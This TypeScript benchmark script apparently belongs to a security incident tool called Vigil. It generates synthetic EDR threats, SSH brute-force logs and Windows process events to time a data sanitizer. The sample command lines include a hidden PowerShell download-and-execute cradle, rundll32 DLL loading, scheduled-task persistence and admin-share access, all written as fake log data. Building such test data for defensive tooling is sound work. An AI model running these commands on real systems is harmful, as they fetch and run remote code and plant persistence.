/**
 * Vigil's benchmarks (`npm run bench`). For now one family: the sanitizer,
 * which runs on every egress of incident data, so its throughput bounds how
 * fast incidents can reach the AI analyst and the chat channels.
 *
 *   node --import tsx scripts/bench.ts
 *
 * The payload is generated, not recorded (deterministic: a fixed PRNG seed),
 * and shaped like what Vigil sends: SentinelOne-like threats, sshd/sudo
 * logs, Windows process-creation events with command lines. Mostly ordinary
 * text with sensitive values sprinkled in, about 10 MB in all. Each case
 * runs once to warm up, then five times; the table shows the median. Results
 * go to bench-results/sanitizer.json.
 *
 * Then the process-level families, each printed as a table and kept in
 * bench-results/bench.json: webhook -> Telegram latency (bench-telegram.ts),
 * webhook ingest against the headless shell and a bare-Node ceiling
 * (bench-ingest.ts: INGEST_ROUNDS alternating rounds, each figure the median
 * with its spread), and the incident list and idle RSS at 1M incidents
 * (bench-list.ts), each checked against the hardening issue's targets.
 */
import { mkdirSync, writeFileSync } from 'node:fs';
import { cpus, loadavg } from 'node:os';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';

import type { Entities } from '../shared/domain';
import { Sanitizer, type PseudonymMap } from '../electron/core/sanitizer/sanitizer';
import { benchIngest, formatSpread, type IngestBench } from './bench-ingest';
import { benchList, type ListBench } from './bench-list';
import { TARGETS } from './bench-load';
import { benchWebhookToTelegram } from './bench-telegram';

const ROOT = resolve(dirname(fileURLToPath(import.meta.url)), '..');
const RESULTS_DIR = join(ROOT, 'bench-results');
const TARGET_BYTES = 10 * 1024 * 1024;
const RUNS = 5;
/** Rounds of the ingest bench per server: three keeps it near two minutes on a 2-core machine. */
const INGEST_ROUNDS = 3;

// ---------------------------------------------------------------- payload

/** mulberry32: a tiny seeded PRNG, so every run benches the same bytes. */
function prng(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

interface BenchIncident {
  id: string;
  title: string;
  description: string;
  severity: string;
  mitre: { tactics: string[]; techniques: string[] };
  entities: Entities;
  rawEvents: { id: string; receivedAt: string; body: string }[];
}

class PayloadGenerator {
  private readonly random: () => number;
  private counter = 0;

  constructor(seed: number) {
    this.random = prng(seed);
  }

  private pick<T>(items: readonly T[]): T {
    return items[Math.floor(this.random() * items.length)] as T;
  }

  private int(min: number, max: number): number {
    return min + Math.floor(this.random() * (max - min + 1));
  }

  private hex(length: number): string {
    let out = '';
    while (out.length < length) out += Math.floor(this.random() * 16).toString(16);
    return out;
  }

  private user(): string {
    return `${this.pick(FIRST)}.${this.pick(LAST)}`;
  }

  private host(): string {
    return `${this.pick(['WS', 'LT', 'SRV', 'VDI'])}-${this.pick(DEPTS)}-${String(this.int(1, 999)).padStart(3, '0')}`;
  }

  private internalIp(): string {
    return `10.${this.int(0, 40)}.${this.int(0, 255)}.${this.int(1, 254)}`;
  }

  private publicIp(): string {
    return `${this.pick(['203.0.113', '198.51.100', '192.0.2'])}.${this.int(1, 254)}`;
  }

  private time(): string {
    const day = String(this.int(1, 28)).padStart(2, '0');
    const hour = String(this.int(0, 23)).padStart(2, '0');
    const minute = String(this.int(0, 59)).padStart(2, '0');
    return `2024-03-${day}T${hour}:${minute}:${String(this.int(0, 59)).padStart(2, '0')}.${this.int(100, 999)}Z`;
  }

  private prose(words: number): string {
    const out: string[] = [];
    for (let i = 0; i < words; i++) out.push(this.pick(WORDS));
    return out.join(' ');
  }

  /** One incident of the mix: 3 of 5 SentinelOne threats, 1 auth log, 1 Windows events. */
  next(): BenchIncident {
    this.counter++;
    const roll = this.counter % 5;
    if (roll === 3) return this.authLogIncident();
    if (roll === 4) return this.windowsIncident();
    return this.sentinelOneIncident();
  }

  private sentinelOneIncident(): BenchIncident {
    const host = this.host();
    const fqdn = `${host.toLowerCase()}.corp.example.com`;
    const user = this.user();
    const ip = this.internalIp();
    const file = `C:\\Users\\${user}\\AppData\\Local\\Temp\\${this.pick(TOOLS)}`;
    const threat = (index: number) => ({
      id: String(1_700_000_000_000_000_000n + BigInt(this.counter * 10 + index)),
      agentDetectionInfo: {
        accountId: '1234567890123456789',
        accountName: 'Default',
        agentDomain: 'CORP',
        agentIpV4: ip,
        agentIpV6: `fe80::${this.hex(4)}:${this.hex(4)}:${this.hex(4)}:${this.hex(4)}`,
        agentLastLoggedInUpn: `${user}@corp.example.com`,
        agentLastLoggedInUserName: user,
        agentMitigationMode: 'protect',
        agentOsName: 'Windows 10 Enterprise',
        agentOsRevision: '19045',
        agentRegisteredAt: this.time(),
        agentUuid: this.hex(32),
        agentVersion: `23.${this.int(1, 4)}.${this.int(1, 9)}.${this.int(100, 999)}`,
        externalIp: this.publicIp(),
        groupName: 'Workstations',
        siteName: 'HQ',
      },
      agentRealtimeInfo: {
        agentComputerName: host,
        agentDomain: 'CORP',
        agentInfected: true,
        agentIsActive: true,
        agentMachineType: 'laptop',
        agentNetworkStatus: 'connected',
        agentOsType: 'windows',
        agentVersion: '23.2.3.358',
        networkInterfaces: [
          {
            id: this.hex(16),
            inet: [ip],
            inet6: [`fe80::${this.hex(4)}`],
            name: 'Ethernet',
            physical: macOf(this.hex(12)),
          },
        ],
        scanStatus: 'finished',
        userActionsNeeded: [],
      },
      indicators: [
        { category: 'Exploitation', description: this.prose(18), ids: [this.int(1, 90)], tactics: [] },
        { category: 'Persistence', description: this.prose(14), ids: [this.int(1, 90)], tactics: [] },
      ],
      mitigationStatus: [
        { action: 'kill', status: 'success', lastUpdate: this.time(), mitigationStartedAt: this.time() },
      ],
      threatInfo: {
        analystVerdict: 'undefined',
        classification: this.pick(['Malware', 'Ransomware', 'Trojan', 'PUA', 'Hacktool']),
        confidenceLevel: 'malicious',
        createdAt: this.time(),
        detectionType: 'dynamic',
        engines: ['DBT - Executables'],
        fileExtension: 'EXE',
        filePath: `\\Device\\HarddiskVolume3\\Users\\${user}\\AppData\\Local\\Temp\\${this.pick(TOOLS)}`,
        fileSize: this.int(10_000, 9_000_000),
        fileVerificationType: 'NotSigned',
        identifiedAt: this.time(),
        initiatedBy: 'agent_policy',
        maliciousProcessArguments: `-enc ${this.hex(40)} -connect ${this.publicIp()}:443`,
        md5: this.hex(32),
        mitigationStatus: 'mitigated',
        originatorProcess: this.pick(['explorer.exe', 'winword.exe', 'powershell.exe', 'cmd.exe']),
        processUser: `CORP\\${user}`,
        sha1: this.hex(40),
        sha256: this.hex(64),
        storyline: this.hex(16).toUpperCase(),
        threatName: this.pick(TOOLS),
        updatedAt: this.time(),
      },
      whiteningOptions: ['hash', 'path'],
    });
    const threats = [threat(0), threat(1), threat(2)];
    return {
      id: `inc-${this.counter}`,
      title: `${this.pick(TITLES)} on ${host}`,
      description: `${this.prose(40)}. Process ran as CORP\\${user} from ${file} on ${fqdn} (${ip}).`,
      severity: this.pick(['medium', 'high', 'critical']),
      mitre: { tactics: ['TA0002', 'TA0006'], techniques: ['T1059.001', 'T1003.001'] },
      entities: {
        hosts: [fqdn],
        users: [`CORP\\${user}`, `${user}@corp.example.com`],
        ips: [ip],
        files: [{ path: file, sha256: this.hex(64) }],
        processes: [`powershell.exe -NoP -W Hidden -File ${file}`],
        urls: [],
        domains: [],
      },
      rawEvents: threats.map((t, i) => ({
        id: `${this.counter}-${i}`,
        receivedAt: this.time(),
        body: JSON.stringify(t),
      })),
    };
  }

  private authLogIncident(): BenchIncident {
    const host = `web${String(this.int(1, 40)).padStart(2, '0')}`;
    const user = this.user().replace('.', '');
    const attacker = this.publicIp();
    const lines: string[] = [];
    const lineCount = this.int(80, 160);
    for (let i = 0; i < lineCount; i++) {
      const stamp = `Mar ${String(this.int(1, 28)).padStart(2, ' ')} ${String(this.int(0, 23)).padStart(2, '0')}:${String(this.int(0, 59)).padStart(2, '0')}:${String(this.int(0, 59)).padStart(2, '0')}`;
      const pid = this.int(1000, 60000);
      const r = this.random();
      if (r < 0.45)
        lines.push(
          `${stamp} ${host} sshd[${pid}]: Failed password for invalid user ${this.pick(GUESSES)} from ${attacker} port ${this.int(30000, 65000)} ssh2`,
        );
      else if (r < 0.6)
        lines.push(
          `${stamp} ${host} sshd[${pid}]: Accepted publickey for ${user} from ${this.internalIp()} port ${this.int(30000, 65000)} ssh2: RSA SHA256:${this.hex(43)}`,
        );
      else if (r < 0.7)
        lines.push(
          `${stamp} ${host} sudo:     ${user} : TTY=pts/${this.int(0, 9)} ; PWD=/home/${user} ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx`,
        );
      else if (r < 0.8)
        lines.push(
          `${stamp} ${host} sshd[${pid}]: pam_unix(sshd:session): session opened for user ${user}(uid=1000) by (uid=0)`,
        );
      else if (r < 0.9)
        lines.push(
          `${stamp} ${host} sshd[${pid}]: Disconnected from invalid user ${this.pick(GUESSES)} ${attacker} port ${this.int(30000, 65000)} [preauth]`,
        );
      else lines.push(`${stamp} ${host} CRON[${pid}]: pam_unix(cron:session): session closed for user root`);
    }
    return {
      id: `inc-${this.counter}`,
      title: `SSH brute force against ${host} followed by a successful logon`,
      description: `${this.prose(30)}. ${this.int(40, 400)} failures from ${attacker}, then ${user} logged on.`,
      severity: 'high',
      mitre: { tactics: ['TA0006'], techniques: ['T1110.001'] },
      entities: {
        hosts: [host],
        users: [user],
        ips: [attacker],
        files: [],
        processes: [],
        urls: [],
        domains: [],
      },
      rawEvents: [{ id: `${this.counter}-0`, receivedAt: this.time(), body: lines.join('\n') }],
    };
  }

  private windowsIncident(): BenchIncident {
    const host = this.host();
    const user = this.user();
    const events = [];
    const count = this.int(6, 14);
    for (let i = 0; i < count; i++) {
      const tool = this.pick(TOOLS);
      const commandLine = this.pick([
        `powershell.exe -NoP -W Hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://${this.publicIp()}/a.ps1')"`,
        `cmd.exe /c copy C:\\Users\\${user}\\Documents\\${tool} \\\\SRV-FS01\\share$\\${tool}`,
        `rundll32.exe C:\\Users\\${user}\\AppData\\Roaming\\${this.hex(8)}.dll,DllRegisterServer`,
        `net use \\\\${this.internalIp()}\\C$ /user:CORP\\${user}`,
        `schtasks /Create /SC ONLOGON /TN Updater /TR "C:\\ProgramData\\${tool}"`,
        `"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\${user}\\Downloads\\Invoice_${this.int(1000, 9999)}.docm"`,
      ]);
      events.push({
        EventID: 4688,
        TimeCreated: this.time(),
        Computer: `${host}.corp.example.com`,
        Channel: 'Security',
        Message:
          `A new process has been created.\r\n\r\nCreator Subject:\r\n\tSecurity ID:\t\tS-1-5-21-3623811015-3361044348-30300820-${this.int(1000, 9999)}\r\n` +
          `\tAccount Name:\t\t${user}\r\n\tAccount Domain:\t\tCORP\r\n\tLogon ID:\t\t0x${this.hex(6)}\r\n\r\n` +
          `Process Information:\r\n\tNew Process ID:\t\t0x${this.hex(4)}\r\n\tNew Process Name:\tC:\\Windows\\System32\\${this.pick(['cmd.exe', 'rundll32.exe', 'WindowsPowerShell\\v1.0\\powershell.exe'])}\r\n` +
          `\tToken Elevation Type:\t%%1938\r\n\tMandatory Label:\t\tMandatory Label\\Medium Mandatory Level\r\n` +
          `\tCreator Process Name:\tC:\\Windows\\explorer.exe\r\n\tProcess Command Line:\t${commandLine}\r\n\r\n` +
          `${this.prose(60)}`,
      });
    }
    return {
      id: `inc-${this.counter}`,
      title: `${this.pick(TITLES)} on ${host}`,
      description: `${this.prose(35)}. Account CORP\\${user} on ${host}.`,
      severity: this.pick(['low', 'medium', 'high']),
      mitre: { tactics: ['TA0002'], techniques: ['T1059.003', 'T1021.002'] },
      entities: {
        hosts: [host],
        users: [`CORP\\${user}`],
        ips: [],
        files: [],
        processes: [],
        urls: [],
        domains: [],
      },
      rawEvents: events.map((event, i) => ({
        id: `${this.counter}-${i}`,
        receivedAt: this.time(),
        body: JSON.stringify(event),
      })),
    };
  }
}

function macOf(hex: string): string {
  return (hex.match(/../g) ?? []).join('-').toUpperCase();
}

const FIRST = ['j', 'anna', 'm', 'oleg', 'svetlana', 'p', 'david', 'li', 'fatima', 'k', 'maria', 'tom'];
const LAST = [
  'smith',
  'ivanova',
  'garcia',
  'petrov',
  'nguyen',
  'okafor',
  'schmidt',
  'rossi',
  'kowalski',
  'tanaka',
];
const DEPTS = ['FIN', 'HR', 'DEV', 'OPS', 'SALES', 'LEGAL', 'IT'];
const TOOLS = [
  'm64.exe',
  'svchost_.exe',
  'update.ps1',
  'payload.dll',
  'rclone.exe',
  'AnyDesk.exe',
  'procdump64.exe',
];
const GUESSES = [
  'admin',
  'oracle',
  'test',
  'ubuntu',
  'postgres',
  'git',
  'ftpuser',
  'deploy',
  'pi',
  'support',
];
const TITLES = [
  'Credential dumping: Mimikatz executed',
  'Encoded PowerShell downloading a payload',
  'Ransomware behaviour: mass file encryption',
  'Suspicious scheduled task created',
  'Lateral movement over SMB admin share',
  'Unsigned binary launched from a temp folder',
];
const WORDS = (
  'the process was started by an unsigned binary from a user writable folder and attempted to read lsass memory ' +
  'after which the agent killed it and quarantined the file the parent was explorer and the session was interactive ' +
  'several similar detections were seen this week on other endpoints in the same group and the hash is known to ' +
  'threat intelligence feeds as a commodity loader with version 3 of its configuration format'
).split(' ');

// ---------------------------------------------------------------- running

export interface BenchResult {
  name: string;
  bytes: number;
  megabytes: number;
  medianMs: number;
  megabytesPerSecond: number;
  runsMs: number[];
}

function median(values: number[]): number {
  const sorted = [...values].sort((a, b) => a - b);
  return sorted[Math.floor(sorted.length / 2)] ?? 0;
}

/** Times `work` once to warm up and RUNS times for real; `bytes` is what one run processes. */
function measure(name: string, bytes: number, work: () => void): BenchResult {
  work();
  const runsMs: number[] = [];
  for (let i = 0; i < RUNS; i++) {
    const start = performance.now();
    work();
    runsMs.push(performance.now() - start);
  }
  const medianMs = median(runsMs);
  const megabytes = bytes / (1024 * 1024);
  return {
    name,
    bytes,
    megabytes,
    medianMs,
    megabytesPerSecond: megabytes / (medianMs / 1000),
    runsMs: runsMs.map((ms) => Math.round(ms * 10) / 10),
  };
}

export function generatePayload(kindFilter?: (incident: BenchIncident) => boolean): {
  incidents: BenchIncident[];
  bytes: number;
} {
  const generator = new PayloadGenerator(20240303);
  const incidents: BenchIncident[] = [];
  let bytes = 0;
  while (bytes < TARGET_BYTES) {
    const incident = generator.next();
    if (kindFilter && !kindFilter(incident)) continue;
    incidents.push(incident);
    bytes += Buffer.byteLength(JSON.stringify(incident));
  }
  return { incidents, bytes };
}

/** The sanitizer cases: mask each incident (with its entities) as an egress would, then unmask answers. */
export function sanitizerBench(): BenchResult[] {
  const sanitizer = new Sanitizer(() => ({ enabled: true, classes: [], allow: [] }));
  const results: BenchResult[] = [];
  const mix = generatePayload();
  const maps: PseudonymMap[] = [];
  results.push(
    measure('sanitizer.mask: incident mix', mix.bytes, () => {
      maps.length = 0;
      for (const incident of mix.incidents) maps.push(sanitizer.mask(incident, incident.entities).map);
    }),
  );
  const subsets: [string, (incident: BenchIncident) => boolean][] = [
    ['sanitizer.mask: SentinelOne threats', (i) => i.rawEvents.length === 3],
    ['sanitizer.mask: sshd/sudo logs', (i) => i.title.startsWith('SSH brute force')],
    ['sanitizer.mask: Windows 4688 events', (i) => i.rawEvents.length > 3],
  ];
  for (const [name, filter] of subsets) {
    const subset = generatePayload(filter);
    results.push(
      measure(name, subset.bytes, () => {
        for (const incident of subset.incidents) sanitizer.mask(incident, incident.entities);
      }),
    );
  }
  // What comes back from the model: masked text naming pseudonyms, restored per incident.
  const answers = mix.incidents.map((incident, i) => {
    const masked = sanitizer.mask(incident, incident.entities, maps[i] ?? {});
    return { text: JSON.stringify(masked.value), map: masked.map };
  });
  const answerBytes = answers.reduce((sum, a) => sum + Buffer.byteLength(a.text), 0);
  results.push(
    measure('sanitizer.unmask: masked incidents', answerBytes, () => {
      for (const answer of answers) sanitizer.unmask(answer.text, answer.map);
    }),
  );
  return results;
}

/** Prints rows as an aligned table: the first column left-aligned, the others right-aligned. */
function printRows(header: string[], rows: string[][], leftColumns = 1): void {
  const widths = header.map((h, i) => Math.max(h.length, ...rows.map((row) => (row[i] ?? '').length)));
  const line = (cells: string[]) =>
    cells
      .map((cell, i) => (i < leftColumns ? cell.padEnd(widths[i] ?? 0) : cell.padStart(widths[i] ?? 0)))
      .join('  ')
      .trimEnd();
  console.log(line(header));
  console.log(widths.map((w) => '-'.repeat(w)).join('  '));
  for (const row of rows) console.log(line(row));
}

const verdict = (ok: boolean) => (ok ? 'ok' : 'MISSED');

/** Ingest figures per server and load (medians over the rounds, spread in brackets), then the share. */
function printIngest(ingest: IngestBench): void {
  const servers: [string, IngestBench['vigil']][] = [
    ['Vigil headless shell', ingest.vigil],
    ['bare Node ceiling', ingest.ceiling],
    ['durable ceiling', ingest.durable],
  ];
  const rows = servers.flatMap(([label, server]) =>
    server.cases.map((c) => [
      label,
      c.mode,
      formatSpread(c.requestsPerSec),
      formatSpread(c.p50Ms, 1),
      formatSpread(c.p99Ms, 1),
      c.maxMs.median.toFixed(1),
      c.serverCores ? c.serverCores.median.toFixed(2) : '?',
      c.generatorCores.median.toFixed(2),
      String(c.errors),
    ]),
  );
  printRows(
    ['server', 'load', 'req/s', 'p50 ms', 'p99 ms', 'max ms', 'server cpu', 'generator cpu', 'errors'],
    rows,
    2,
  );
  const byRound = ingest.shareByRound.map((s) => `${(s * 100).toFixed(1)}%`).join(', ');
  console.log(
    `\nVigil at saturation: ${(ingest.shareOfCeiling * 100).toFixed(1)}% of the ceiling (median of ${ingest.rounds} rounds; by round ${byRound})`,
  );
  console.log(
    `Durable ceiling at saturation: ${(ingest.durableShareOfCeiling * 100).toFixed(1)}% of the ceiling ` +
      '(bare Node + the raw event committed to SQLite before the 202, nothing else)',
  );
  console.log(
    'cpu: cores busy over the run (1.00 = one core throughout); a server below 1 at saturation waits on the generator or the machine',
  );
  for (const [, server] of servers) {
    const reasons = server.cases.flatMap((c) => c.errorSamples);
    if (reasons.length > 0) console.log(`  ${server.name} errors: ${[...new Set(reasons)].join('; ')}`);
  }
}

function printList(list: ListBench): void {
  printRows(
    ['list() query, limit 100', 'matching', 'p50 ms', 'p95 ms'],
    list.cases.map((c) => [c.name, c.total.toLocaleString('en'), c.p50Ms.toFixed(1), c.p95Ms.toFixed(1)]),
  );
}

interface TargetRow {
  name: string;
  measured: string;
  target: string;
  status: string;
}

/** One row per target of the hardening issue; a target is met or MISSED, nothing in between. */
function targetRows(ingest: IngestBench, list: ListBench): TargetRow[] {
  const saturation = ingest.vigil.cases[0];
  const fixedRate = ingest.vigil.cases.slice(1);
  // p99 at saturation is queueing by construction; the target applies to the offered rates (median of rounds).
  const worstP99 = Math.max(...fixedRate.map((c) => c.p99Ms.median));
  const errors = ingest.vigil.cases.reduce((sum, c) => sum + c.errors, 0);
  const worstP95 = Math.max(...list.cases.map((c) => c.p95Ms));
  const slowest = list.cases.find((c) => c.p95Ms === worstP95);
  return [
    {
      name: 'ingest throughput vs ceiling',
      measured:
        `${(ingest.shareOfCeiling * 100).toFixed(1)}% (${saturation?.requestsPerSec.median ?? 0} req/s; ` +
        `durable ceiling ${(ingest.durableShareOfCeiling * 100).toFixed(1)}%)`,
      target: `>= ${TARGETS.ingestShareOfCeiling * 100}%`,
      status: verdict(ingest.shareOfCeiling >= TARGETS.ingestShareOfCeiling),
    },
    {
      name: 'ingest p99 at fixed rates',
      measured: `${worstP99.toFixed(1)} ms (${fixedRate.map((c) => c.mode).join(', ')})`,
      target: `< ${TARGETS.ingestP99Ms} ms`,
      status: verdict(worstP99 < TARGETS.ingestP99Ms),
    },
    {
      name: 'ingest answers other than 202',
      measured: String(errors),
      target: '0',
      status: verdict(errors === 0),
    },
    {
      name: `list p95 at ${list.incidents.toLocaleString('en')}`,
      measured: `${worstP95.toFixed(1)} ms (worst: ${slowest?.name ?? '?'})`,
      target: `< ${TARGETS.listP95Ms} ms`,
      status: verdict(worstP95 < TARGETS.listP95Ms),
    },
    {
      name: 'headless shell RSS, idle, 1M incidents',
      measured: list.rssMb === null ? 'unreadable' : `${list.rssMb} MB`,
      target: `< ${TARGETS.rssMb} MB`,
      status: verdict(list.rssMb !== null && list.rssMb < TARGETS.rssMb),
    },
    { name: 'search at 1M', measured: `search: ${list.search}`, target: '-', status: '-' },
  ];
}

function printTable(results: BenchResult[]): void {
  const rows = results.map((r) => [
    r.name,
    r.megabytes.toFixed(1),
    r.megabytesPerSecond.toFixed(1),
    r.medianMs.toFixed(0),
  ]);
  const header = ['name', 'MB', 'MB/s', 'ms'];
  const widths = header.map((h, i) => Math.max(h.length, ...rows.map((row) => (row[i] ?? '').length)));
  const line = (cells: string[]) =>
    cells
      .map((cell, i) => (i === 0 ? cell.padEnd(widths[i] ?? 0) : cell.padStart(widths[i] ?? 0)))
      .join('  ');
  console.log(line(header));
  console.log(widths.map((w) => '-'.repeat(w)).join('  '));
  for (const row of rows) console.log(line(row));
}

async function main(): Promise<void> {
  const started = performance.now();
  console.log('Sanitizer throughput (median of 5 after a warm-up)\n');
  const results = sanitizerBench();
  printTable(results);
  console.log('\nWebhook -> Telegram (telegram-test-api on 127.0.0.1, masked, one alert at a time)\n');
  const telegram = await benchWebhookToTelegram(100);
  console.log(
    `samples ${telegram.samples}   p50 ${telegram.p50Ms} ms   p95 ${telegram.p95Ms} ms   max ${telegram.maxMs} ms`,
  );
  console.log(
    `\nWebhook ingest over loopback (server in a child process; 32 keep-alive connections; 5 s saturation, 5 s per fixed rate; ${INGEST_ROUNDS} alternating rounds)\n`,
  );
  const ingest = await benchIngest({
    rounds: INGEST_ROUNDS,
    saturationMs: 5_000,
    rates: [1000, 200],
    rateMs: 5_000,
    connections: 32,
  });
  console.log('');
  printIngest(ingest);
  console.log('\nIncident list at 1,000,000 incidents (in-process list(), 50 runs each after a warm-up)\n');
  const list = await benchList(1_000_000, 50);
  console.log('');
  printList(list);
  console.log(`\nseeded in ${list.seedSeconds} s, database ${list.dbMb} MB`);
  console.log('\nTargets (hardening issue)\n');
  const targets = targetRows(ingest, list);
  printRows(
    ['target', 'measured', 'goal', 'status'],
    targets.map((t) => [t.name, t.measured, t.target, t.status]),
    2,
  );
  mkdirSync(RESULTS_DIR, { recursive: true });
  const file = join(RESULTS_DIR, 'bench.json');
  writeFileSync(
    file,
    JSON.stringify(
      {
        generatedAt: new Date().toISOString(),
        node: process.version,
        // Throughput depends on the machine and on what else it runs: keep both with the figures.
        cpu: cpus()[0]?.model ?? 'unknown',
        cores: cpus().length,
        loadAverage: loadavg().map((l) => Math.round(l * 100) / 100),
        runs: RUNS,
        results,
        webhookToTelegram: telegram,
        webhookIngest: ingest,
        incidentList: list,
        targets,
        totalSeconds: Math.round((performance.now() - started) / 100) / 10,
      },
      null,
      2,
    ) + '\n',
  );
  console.log(`\nwritten ${file}`);
  console.log(`total ${((performance.now() - started) / 1000).toFixed(1)} s`);
}

// Run when started as a script; stay quiet when imported (a later bench table reuses the generator).
if (process.argv[1] !== undefined && resolve(process.argv[1]) === fileURLToPath(import.meta.url)) {
  main().catch((error: unknown) => {
    console.error(error);
    process.exitCode = 1;
  });
}
